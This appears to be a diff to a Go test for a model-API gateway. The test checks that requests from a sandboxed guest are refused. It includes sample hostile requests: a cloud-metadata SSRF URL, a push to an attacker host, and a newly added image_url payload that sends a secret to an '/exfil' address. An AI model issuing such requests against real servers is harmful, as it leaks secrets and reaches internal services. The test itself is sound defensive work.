@@ -80,6 +80,8 @@ func TestModelGateUserNAT(t *testing.T) {
 				"create": post("/api/create", `{"model":"x","remote_host":"http://169.254.169.254"}`),
 				"push":   post("/api/push", `{"name":"attacker.example/x/y"}`),
 				"delete": fmt.Sprintf("DELETE /api/delete HTTP/1.1\r\nHost: %s\r\nContent-Length: 12\r\n\r\n{\"name\":\"x\"}", model),
+				// llama.cpp's server would fetch this URL from the host, past the proxy.
+				"image_url": post("/v1/chat/completions", `{"model":"x","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://203.0.113.66/exfil?d=SECRET"}}]}]}`),
 			}
 			for name, raw := range bad {
 				if got := nsExchange(t, s, u.Guest, model, raw, 1); len(got) != 1 || got[0] != http.StatusForbidden {
@@ -95,12 +97,18 @@ func TestModelGateUserNAT(t *testing.T) {
 			if code != 0 || !strings.Contains(out, "✓ model "+lab.ModelID) {
 				t.Errorf("router check-ip --model in the %s guest: exit %d\n%s", kind, code, out)
 			}
+			chats := 0
 			for _, r := range s.lab.ModelRequests() {
 				switch r.Method + " " + r.Path {
-				case "GET /v1/models", "POST /v1/chat/completions":
+				case "GET /v1/models":
+				case "POST /v1/chat/completions":
+					chats++
 				default:
 					t.Errorf("the model server saw %s %s from the %s guest", r.Method, r.Path, kind)
 				}
+			}
+			if chats != 1 {
+				t.Errorf("the model server saw %d chat completions from the %s guest; want the streamed one only (never the image_url)", chats, kind)
 			}
 			if n, _ := refusalCount(s.status(), "model-api"); n < uint64(len(bad)) {
 				t.Errorf("status: %d model-api refusals; want at least %d", n, len(bad))
